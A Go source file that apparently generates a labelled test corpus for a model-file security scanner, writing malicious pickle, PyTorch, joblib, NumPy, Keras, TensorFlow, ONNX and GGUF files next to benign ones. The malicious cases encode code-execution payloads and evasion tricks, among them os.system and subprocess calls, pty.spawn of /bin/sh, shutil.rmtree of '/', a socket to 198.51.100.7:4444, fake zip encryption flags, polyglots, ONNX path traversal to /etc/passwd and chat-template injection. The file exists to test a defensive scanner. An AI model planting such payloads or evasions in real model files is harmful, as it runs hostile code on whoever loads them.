// Package corpus writes the model-scanner test corpus from the repository's
// own code: malicious variants that cover every pickle opcode path the
// analyser resolves and every container format the scanner opens, and
// benign checkpoints laid out as the libraries that save them lay them
// out. Nothing here runs Python or loads a pickle: pickles are written
// opcode by opcode with pickletest, the other formats by their writers in
// the scan/model packages' test helpers.
package corpus

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"github.com/rampartsec/rampart/scan/model/internal/fixtures"
	"github.com/rampartsec/rampart/scan/model/internal/ggufwrite"
	"github.com/rampartsec/rampart/scan/model/pickle/pickletest"
)

// Case is one file or folder of the corpus.
type Case struct {
	// Name is the path under the corpus folder.
	Name string
	// Malicious is the label: loading a malicious case runs code, reads or
	// writes files, or reaches the network.
	Malicious bool
	// Covers says which opcode path, container or evasion the case
	// exercises.
	Covers string
}

type file struct {
	name string
	data []byte
}

type builder struct {
	dir   string
	cases []Case
	err   error
}

// add writes the files of one case; the case's name is the first file's
// path, or dir when the case is a folder.
func (b *builder) add(name string, malicious bool, covers string, files ...file) {
	if b.err != nil {
		return
	}
	if len(files) == 0 {
		files = []file{{name: name}}
	}
	for _, f := range files {
		p := filepath.Join(b.dir, filepath.FromSlash(f.name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			b.err = err
			return
		}
		if err := os.WriteFile(p, f.data, 0o644); err != nil {
			b.err = err
			return
		}
	}
	b.cases = append(b.cases, Case{Name: name, Malicious: malicious, Covers: covers})
}

// Write writes the corpus into dir (which must exist) and returns its
// cases, sorted by name.
func Write(dir string) ([]Case, error) {
	b := &builder{dir: dir}
	b.pickles()
	b.containers()
	b.otherFormats()
	b.benign()
	if b.err != nil {
		return nil, fmt.Errorf("corpus: %w", b.err)
	}
	sort.Slice(b.cases, func(i, j int) bool { return b.cases[i].Name < b.cases[j].Name })
	return b.cases, nil
}

// P starts a pickle.
func P(proto int) *pickletest.Writer { return pickletest.New(proto) }

var (
	s = pickletest.S
	i = pickletest.I
)

// system writes os.system("id") called through REDUCE with the given
// module spelling.
func system(proto int, module string) []byte {
	return P(proto).Call(module, "system", s("id")).Stop().Bytes()
}

func (b *builder) pickles() {
	m := func(name, covers string, data []byte) { b.add(name, true, covers, file{name, data}) }

	m("pickle/global-os-system-p0.pkl", "GLOBAL + REDUCE, protocol 0", system(0, "os"))
	m("pickle/global-posix-system-p2.pkl", "GLOBAL + REDUCE, protocol 2, posix spelling", system(2, "posix"))
	m("pickle/global-nt-system-p1.pkl", "GLOBAL + REDUCE, protocol 1, nt spelling", system(1, "nt"))
	m("pickle/stack-global-subprocess-p4.pkl", "STACK_GLOBAL + REDUCE, protocol 4",
		P(4).Str("subprocess").Str("check_output").Op(pickletest.StackGlobal).
			Str("id").Tuple1().EmptyList().Op(pickletest.Append).Tuple1().Reduce().Stop().Bytes())
	{
		// Module and name strings memoized first, then fetched for
		// STACK_GLOBAL: scanners that only read the strings next to
		// STACK_GLOBAL miss it.
		w := P(4)
		w.Str("builtins").MemoizeOp().Str("eval").MemoizeOp().Pop().Pop()
		w.GetAt(0).GetAt(1).Op(pickletest.StackGlobal)
		w.Str("__import__('os').system('id')").Tuple1().Reduce().Stop()
		m("pickle/stack-global-memo-names-p4.pkl", "STACK_GLOBAL with names assembled from the memo (MEMOIZE/GET)", w.Bytes())
	}
	{
		w := P(2)
		w.Str("__builtin__").PutAt(7).Str("exec").PutAt(9).Pop().Pop()
		w.GetAt(7).GetAt(9).Op(pickletest.StackGlobal)
		w.Str("import os; os.system('id')").Tuple1().Reduce().Stop()
		m("pickle/stack-global-binput-names-p2.pkl", "STACK_GLOBAL with names from BINPUT/BINGET", w.Bytes())
	}
	m("pickle/inst-os-system-p0.pkl", "INST, protocol 0",
		P(0).Mark().Str("id").Inst("os", "system").Stop().Bytes())
	m("pickle/obj-builtins-exec-p1.pkl", "OBJ, protocol 1",
		P(1).Mark().Global("builtins", "exec").Str("import os; os.system('id')").ObjOp().Stop().Bytes())
	m("pickle/newobj-popen-p2.pkl", "NEWOBJ, protocol 2",
		P(2).Global("subprocess", "Popen").Str("id").Tuple1().NewObj().Stop().Bytes())
	m("pickle/newobj-ex-popen-p4.pkl", "NEWOBJ_EX, protocol 4",
		P(4).StackGlobal("subprocess", "Popen").Str("id").Tuple1().EmptyDict().NewObjEx().Stop().Bytes())
	{
		// BUILD sets attributes on an imported module object: here it
		// replaces a torch helper's globals, the modelscan #85 class.
		w := P(2)
		w.Global("torch._utils", "_rebuild_tensor_v2").EmptyDict().Str("__reduce__").
			Global("os", "system").SetItem().Build().Stop()
		m("pickle/build-on-global-p2.pkl", "BUILD on an imported global", w.Bytes())
	}
	m("pickle/getattr-chain-p2.pkl", "builtins.getattr on builtins.__import__('os') reaching os.system",
		P(2).Call("builtins", "getattr", func(w *pickletest.Writer) {
			w.Call("builtins", "__import__", s("os"))
		}, s("system")).Str("id").Tuple1().Reduce().Stop().Bytes())
	m("pickle/import-module-p4.pkl", "importlib.import_module then getattr",
		P(4).Call("builtins", "getattr", func(w *pickletest.Writer) {
			w.Call("importlib", "import_module", s("subprocess"))
		}, s("getoutput")).Str("id").Tuple1().Reduce().Stop().Bytes())
	m("pickle/attrgetter-p2.pkl", "operator.attrgetter",
		P(2).Call("operator", "attrgetter", s("system")).Global("os", "system").Tuple1().Reduce().Stop().Bytes())
	m("pickle/methodcaller-p3.pkl", "operator.methodcaller",
		P(3).Call("operator", "methodcaller", s("system"), s("id")).Global("os", "system").Tuple1().Reduce().Stop().Bytes())
	{
		// A benign first pickle, then the payload: loaders that call
		// pickle.load twice (legacy torch) run the second.
		w := P(2)
		w.EmptyDict().Str("epoch").Int(3).SetItem().Stop()
		w.Next(2).Call("os", "system", s("id")).Stop()
		m("pickle/second-pickle-p2.pkl", "payload in the second pickle of a stream", w.Bytes())
	}
	m("pickle/runpy-p2.pkl", "runpy._run_code", P(2).Call("runpy", "_run_code", s("import os"), func(w *pickletest.Writer) { w.EmptyDict() }).Stop().Bytes())
	m("pickle/pty-spawn-p2.pkl", "pty.spawn", P(2).Call("pty", "spawn", s("/bin/sh")).Stop().Bytes())
	m("pickle/socket-p3.pkl", "socket.create_connection", P(3).Call("socket", "create_connection", func(w *pickletest.Writer) {
		w.TupleOf(s("198.51.100.7"), i(4444))
	}).Stop().Bytes())
	m("pickle/shutil-rmtree-p2.pkl", "shutil.rmtree", P(2).Call("shutil", "rmtree", s("/")).Stop().Bytes())
	m("pickle/webbrowser-p2.pkl", "webbrowser.open", P(2).Call("webbrowser", "open", s("http://198.51.100.7/")).Stop().Bytes())
	m("pickle/nested-pickle-loads-p2.pkl", "_pickle.loads of an embedded pickle",
		P(2).Call("_pickle", "loads", func(w *pickletest.Writer) { w.BytesVal(system(2, "os")) }).Stop().Bytes())
	m("pickle/sys-modules-p2.pkl", "sys.modules lookup", P(2).Global("sys", "modules").Stop().Bytes())
	m("pickle/torch-load-p2.pkl", "torch.load of another file", P(2).Call("torch", "load", s("/tmp/x.pt")).Stop().Bytes())
	m("pickle/pydoc-locate-p2.pkl", "pydoc.locate resolving os.system",
		P(2).Call("pydoc", "locate", s("os.system")).Str("id").Tuple1().Reduce().Stop().Bytes())
	m("pickle/ext-registry-p2.pkl", "EXT1: a global through the copyreg extension registry",
		P(2).Ext(1).Str("id").Tuple1().Reduce().Stop().Bytes())
}

// torchZip writes a PyTorch zip checkpoint around data.pkl.
func torchZip(dataPkl []byte, tensors []pickletest.Tensor) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	put := func(name string, data []byte) {
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		w.Write(data)
	}
	put("archive/data.pkl", dataPkl)
	put("archive/byteorder", []byte("little"))
	for k, t := range tensors {
		put(fmt.Sprintf("archive/data/%d", k), make([]byte, t.ElementSize()*numel(t)))
	}
	put("archive/version", []byte("3\n"))
	put("archive/.data/serialization_id", []byte("1000000000000000000000000000000000000000"))
	zw.Close()
	return buf.Bytes()
}

func numel(t pickletest.Tensor) int64 {
	n := int64(1)
	for _, d := range t.Shape {
		n *= d
	}
	return n
}

var tensors = []pickletest.Tensor{
	{Name: "fc.weight", Storage: "FloatStorage", Shape: []int64{8, 4}},
	{Name: "fc.bias", Storage: "FloatStorage", Shape: []int64{8}},
}

// evil is a data.pkl that rebuilds a state dict and calls os.system.
func evil() []byte {
	w := P(2)
	w.Call("posix", "system", s("id")).Pop()
	return append(w.Bytes(), pickletest.TorchDataPkl(tensors)[2:]...)
}

func tarFile(files ...file) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, f := range files {
		tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg})
		tw.Write(f.data)
	}
	tw.Close()
	return buf.Bytes()
}

// npy writes a .npy file of an object array: the header, then a pickle.
func npy(pkl []byte) []byte {
	header := "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
	pad := 64 - (10+len(header)+1)%64
	header += strings.Repeat(" ", pad) + "\n"
	out := []byte("\x93NUMPY\x01\x00")
	out = binary.LittleEndian.AppendUint16(out, uint16(len(header)))
	return append(append(out, header...), pkl...)
}

// npyFloat writes a .npy file of n float64 zeros.
func npyFloat(n int) []byte {
	header := fmt.Sprintf("{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }", n)
	pad := 64 - (10+len(header)+1)%64
	header += strings.Repeat(" ", pad) + "\n"
	out := []byte("\x93NUMPY\x01\x00")
	out = binary.LittleEndian.AppendUint16(out, uint16(len(header)))
	return append(append(out, header...), make([]byte, 8*n)...)
}

func zipOf(files ...file) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		w, _ := zw.Create(f.name)
		w.Write(f.data)
	}
	zw.Close()
	return buf.Bytes()
}

func (b *builder) containers() {
	m := func(name, covers string, data []byte) { b.add(name, true, covers, file{name, data}) }
	payload := P(2).Call("os", "system", s("id")).Stop().Bytes()

	m("containers/torch-zip.pt", "PyTorch zip checkpoint with a payload in data.pkl", torchZip(evil(), tensors))
	{
		z := torchZip(evil(), tensors)
		// Set the encryption flag bit on every header without encrypting:
		// strict zip readers refuse the entry, PyTorch's loader reads it.
		for _, sig := range []string{"PK\x03\x04", "PK\x01\x02"} {
			off := 6
			if sig == "PK\x01\x02" {
				off = 8
			}
			for k := 0; ; {
				j := bytes.Index(z[k:], []byte(sig))
				if j < 0 {
					break
				}
				z[k+j+off] |= 1
				k += j + 4
			}
		}
		m("containers/torch-zip-flag-bits.pt", "PyTorch zip with fake encryption flag bits", z)
	}
	{
		z := torchZip(evil(), tensors)
		// Corrupt the CRC of data.pkl in both headers.
		j := bytes.Index(z, []byte("PK\x03\x04"))
		z[j+14] ^= 0xff
		j = bytes.Index(z, []byte("PK\x01\x02"))
		z[j+16] ^= 0xff
		m("containers/torch-zip-bad-crc.pt", "PyTorch zip whose data.pkl CRC is wrong", z)
	}
	m("containers/torch-zip-renamed.bin", "PyTorch zip under a .bin name", torchZip(evil(), tensors))
	{
		// The legacy format's magic-number, protocol and sys_info pickles,
		// then a state-dict pickle that calls os.system.
		magic, _ := new(big.Int).SetString("1950a86a20f9469cfc6c", 16)
		w := P(2).BigInt(magic).Stop()
		w.Next(2).Int(1001).Stop()
		w.Next(2).EmptyDict().Str("protocol_version").Int(1001).SetItem().Stop()
		w.Next(2).Call("os", "system", s("id")).Stop()
		m("containers/legacy-raw.pt", "legacy PyTorch format: payload in the state-dict pickle", w.Bytes())
	}
	m("containers/legacy.tar", "legacy PyTorch tar checkpoint with a payload in its pickle entry",
		tarFile(file{"sys_info", P(2).EmptyDict().Stop().Bytes()}, file{"pickle", payload}, file{"storages", P(2).EmptyList().Stop().Bytes()}, file{"tensors", P(2).EmptyList().Stop().Bytes()}))
	m("containers/model.joblib", "joblib file with a pickle after the array data",
		pickletest.Joblib([]pickletest.JoblibArray{{Name: "coef", Float64: []float64{1, 2, 3}}}, func(w *pickletest.Writer) {
			w.Str("hook").Call("os", "system", s("id"))
		}))
	m("containers/model-zlib.joblib", "zlib-compressed joblib file", fixtures.Zlib(payload))
	m("containers/model.pkl.gz", "gzip-compressed pickle", fixtures.Gzip(payload))
	m("containers/object-array.npy", "NumPy object array whose pickle calls os.system", npy(payload))
	m("containers/object-arrays.npz", "NumPy .npz with an object array", zipOf(file{"weights.npy", npyFloat(4)}, file{"meta.npy", npy(payload)}))
	m("containers/zip-in-zip.zip", "model bundle: a PyTorch zip inside a zip", zipOf(file{"model/pytorch_model.bin", torchZip(evil(), tensors)}))
	m("containers/polyglot.pt", "pickle with a zip appended: zipfile loaders read the archive",
		append(P(2).EmptyDict().Stop().Bytes(), zipOf(file{"archive/data.pkl", payload})...))
	m("containers/disguised.safetensors", "a pickle under a .safetensors name", payload)
}

func (b *builder) otherFormats() {
	m := func(name, covers string, data []byte) { b.add(name, true, covers, file{name, data}) }

	lambda := fixtures.Sequential(fixtures.Dense("d1", 4), fixtures.Lambda("evil", fixtures.LambdaOSSystem))
	m("keras/lambda.keras", "Keras v3 .keras zip with a Lambda layer", zipOf(
		file{"metadata.json", []byte(`{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}`)},
		file{"config.json", fixtures.JSON(lambda)},
		file{"model.weights.h5", fixtures.H5{}.Bytes()}))
	m("keras/nested-exec-initializer.keras", "Keras config naming builtins.exec as an initializer in a nested layer", zipOf(
		file{"config.json", fixtures.JSON(fixtures.Sequential(fixtures.Wrap("TimeDistributed", fixtures.Obj{
			"class_name": "Dense", "config": fixtures.Obj{"units": 2,
				"kernel_initializer": fixtures.Function3("builtins", "exec")}})))},
		file{"metadata.json", []byte(`{"keras_version": "3.3.3"}`)}))
	m("keras/lambda.h5", "Keras .h5 whose model_config has a Lambda layer",
		fixtures.H5{Attrs: []fixtures.H5Attr{{Name: "model_config", Value: string(fixtures.JSON(lambda))}, {Name: "keras_version", Value: "2.15.0"}}}.Bytes())

	g := fixtures.BenignTFGraph()
	g.Functions = append(g.Functions, fixtures.TFFunction{Name: "__inference_call_7", Nodes: []fixtures.TFNode{{Name: "py", Op: "EagerPyFunc"}}})
	b.add("savedmodel/pyfunc", true, "TensorFlow SavedModel with a py_func op in a function",
		file{"savedmodel/pyfunc/saved_model.pb", fixtures.SavedModel(g)},
		file{"savedmodel/pyfunc/variables/variables.index", []byte{}})
	g = fixtures.BenignTFGraph()
	g.Nodes = append(g.Nodes, fixtures.TFNode{Name: "w", Op: "WriteFile"})
	b.add("savedmodel/writefile", true, "TensorFlow SavedModel writing a file",
		file{"savedmodel/writefile/saved_model.pb", fixtures.SavedModel(g)})

	om := fixtures.BenignONNX()
	om.Graph.Initializers = append(om.Graph.Initializers, fixtures.ONNXTensor{Name: "w_ext", Location: true,
		External: [][2]string{{"location", "../../../../etc/passwd"}, {"offset", "0"}, {"length", "16"}}})
	b.add("onnx/external-escape", true, "ONNX external_data path escaping the model folder",
		file{"onnx/external-escape/model.onnx", om.Bytes()})
	om = fixtures.BenignONNX()
	om.Graph.Nodes = append(om.Graph.Nodes, fixtures.ONNXNode{Name: "evil", OpType: "PyOp", Domain: "ai.onnx.contrib"})
	m("onnx/custom-domain.onnx", "ONNX custom operator domain (Python op)", om.Bytes())

	m("gguf/ssti-chat-template.gguf", "GGUF whose chat template reaches os through __globals__ (CVE-2024-34359 class)",
		gguf(`{% for m in messages %}{{ m.content }}{% endfor %}{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}`))
	m("gguf/obfuscated-chat-template.gguf", "GGUF whose chat template assembles a dunder name by concatenation",
		gguf(`{% set a = '__cla' ~ 'ss__' %}{{ ''|attr(a) }}{% for m in messages %}{{ m.content }}{% endfor %}`))
	tmpl := `{% for m in messages %}{{ m.content }}{% endfor %}{{ ''.__class__.__mro__[1].__subclasses__() }}`
	b.add("hub/ssti-tokenizer", true, "Hugging Face repo whose tokenizer_config.json chat template reaches Python internals",
		file{"hub/ssti-tokenizer/tokenizer_config.json", jsonOf(map[string]any{"chat_template": tmpl, "model_max_length": 2048})},
		file{"hub/ssti-tokenizer/model.safetensors", safetensorsFile(map[string][]int64{"w": {2, 2}})})
	{
		st := safetensorsFile(map[string][]int64{"a": {4}, "b": {4}})
		// Make b overlap a: both start at 0.
		st = bytes.Replace(st, []byte(`"data_offsets":[16,32]`), []byte(`"data_offsets":[0,16]`), 1)
		m("safetensors/overlap.safetensors", "safetensors tensors overlapping", st)
	}
}

// gguf writes a small GGUF model with the given chat template.
func gguf(template string) []byte {
	f := &ggufwrite.File{
		KVs: []ggufwrite.KV{
			{Key: "general.architecture", Type: ggufwrite.String, Value: "llama"},
			{Key: "general.name", Type: ggufwrite.String, Value: "tiny"},
			{Key: "llama.context_length", Type: ggufwrite.Uint32, Value: uint32(2048)},
			{Key: "tokenizer.ggml.model", Type: ggufwrite.String, Value: "gpt2"},
			{Key: "tokenizer.ggml.tokens", Type: ggufwrite.Array, Value: ggufwrite.Arr{Type: ggufwrite.String, Values: []any{"<s>", "</s>", "hi"}}},
			{Key: "tokenizer.chat_template", Type: ggufwrite.String, Value: template},
		},
		Tensors:  []ggufwrite.Tensor{{Name: "token_embd.weight", Dims: []uint64{4, 2}, Type: 0, Offset: 0}},
		DataSize: 32,
	}
	return f.Bytes()
}

const chatML = "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"

func jsonOf(v any) []byte {
	b, _ := json.Marshal(v)
	return b
}

// safetensorsFile writes an F32 safetensors file of zeros with the given
// tensors, in name order.
func safetensorsFile(shapes map[string][]int64) []byte {
	names := make([]string, 0, len(shapes))
	for n := range shapes {
		names = append(names, n)
	}
	sort.Strings(names)
	var hdr strings.Builder
	hdr.WriteString(`{"__metadata__":{"format":"pt"}`)
	var off int64
	for _, n := range names {
		size := int64(4)
		for _, d := range shapes[n] {
			size *= d
		}
		shape, _ := json.Marshal(shapes[n])
		fmt.Fprintf(&hdr, `,%q:{"dtype":"F32","shape":%s,"data_offsets":[%d,%d]}`, n, shape, off, off+size)
		off += size
	}
	hdr.WriteString("}")
	for hdr.Len()%8 != 0 {
		hdr.WriteString(" ")
	}
	out := binary.LittleEndian.AppendUint64(nil, uint64(hdr.Len()))
	out = append(out, hdr.String()...)
	return append(out, make([]byte, off)...)
}

func (b *builder) benign() {
	ok := func(name, covers string, data []byte) { b.add(name, false, covers, file{name, data}) }
	big := []pickletest.Tensor{
		{Name: "embed.weight", Storage: "HalfStorage", Shape: []int64{64, 16}},
		{Name: "layers.0.attn.weight", Storage: "BFloat16Storage", Shape: []int64{16, 16}},
		{Name: "layers.0.norm.weight", Storage: "FloatStorage", Shape: []int64{16}},
		{Name: "head.bias", Storage: "DoubleStorage", Shape: []int64{4}},
		{Name: "steps", Storage: "LongStorage", Shape: []int64{1}},
	}
	ok("benign/torch-zip.pt", "PyTorch zip state dict", torchZip(pickletest.TorchDataPkl(tensors), tensors))
	ok("benign/torch-zip-dtypes.bin", "PyTorch zip state dict with half, bfloat16, double and long tensors", torchZip(pickletest.TorchDataPkl(big), big))
	ok("benign/torch-legacy.pt", "legacy PyTorch format", pickletest.TorchLegacy(tensors, nil))
	ok("benign/torch-legacy-dtypes.pth", "legacy PyTorch format, several dtypes", pickletest.TorchLegacy(big, nil))
	ok("benign/state.pkl", "plain pickle of an OrderedDict of numbers (protocol 2)",
		P(2).Call("collections", "OrderedDict").Str("lr").Float(0.001).SetItem().Str("epochs").Int(10).SetItem().Stop().Bytes())
	ok("benign/numpy-array.pkl", "pickled NumPy object array of strings", pickletest.NumpyObjectArray([]string{"cat", "dog"}, 2))
	ok("benign/floats.npy", "NumPy float64 array", npyFloat(16))
	ok("benign/arrays.npz", "NumPy .npz of float arrays", zipOf(file{"a.npy", npyFloat(8)}, file{"b.npy", npyFloat(3)}))
	ok("benign/model.joblib", "joblib dict of float arrays", pickletest.Joblib([]pickletest.JoblibArray{{Name: "coef", Float64: []float64{0.5, 1.5}}, {Name: "intercept", Float64: []float64{0.1}}}, nil))
	ok("benign/model-zlib.joblib", "zlib-compressed joblib dict of float arrays", fixtures.Zlib(pickletest.Joblib([]pickletest.JoblibArray{{Name: "coef", Float64: []float64{0.5}}}, nil)))
	ok("benign/model.safetensors", "safetensors with several tensors", safetensorsFile(map[string][]int64{"embed": {32, 8}, "proj": {8, 8}, "bias": {8}}))
	ok("benign/model.keras", "Keras v3 .keras zip without custom code", zipOf(
		file{"metadata.json", []byte(`{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}`)},
		file{"config.json", fixtures.JSON(fixtures.Sequential(fixtures.Dense("d1", 8), fixtures.Dense("d2", 2)))},
		file{"model.weights.h5", fixtures.H5{}.Bytes()}))
	ok("benign/model.h5", "Keras .h5 with a Dense model config",
		fixtures.H5{Attrs: []fixtures.H5Attr{{Name: "model_config", Value: string(fixtures.JSON(fixtures.Sequential(fixtures.Dense("d1", 8))))}, {Name: "keras_version", Value: "2.15.0"}}}.Bytes())
	b.add("benign/savedmodel", false, "TensorFlow SavedModel with SaveV2/RestoreV2 and MatMul",
		file{"benign/savedmodel/saved_model.pb", fixtures.SavedModel(fixtures.BenignTFGraph())})
	ok("benign/model.onnx", "ONNX model with standard operators", fixtures.BenignONNX().Bytes())
	b.add("benign/hub-repo", false, "Hugging Face repo: config, tokenizer config with a ChatML template, safetensors",
		file{"benign/hub-repo/config.json", jsonOf(map[string]any{"model_type": "llama", "hidden_size": 16, "architectures": []string{"LlamaForCausalLM"}})},
		file{"benign/hub-repo/tokenizer_config.json", jsonOf(map[string]any{"chat_template": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"})},
		file{"benign/hub-repo/model.safetensors", safetensorsFile(map[string][]int64{"w": {4, 4}})},
		file{"benign/hub-repo/README.md", []byte("# A small model\n\nTrained on public data.\n")})
	ok("benign/model.gguf", "GGUF with a ChatML chat template", gguf(chatML))
	ok("benign/torch-zip.pt.gz", "gzip-compressed PyTorch zip", fixtures.Gzip(torchZip(pickletest.TorchDataPkl(tensors), tensors)))
}
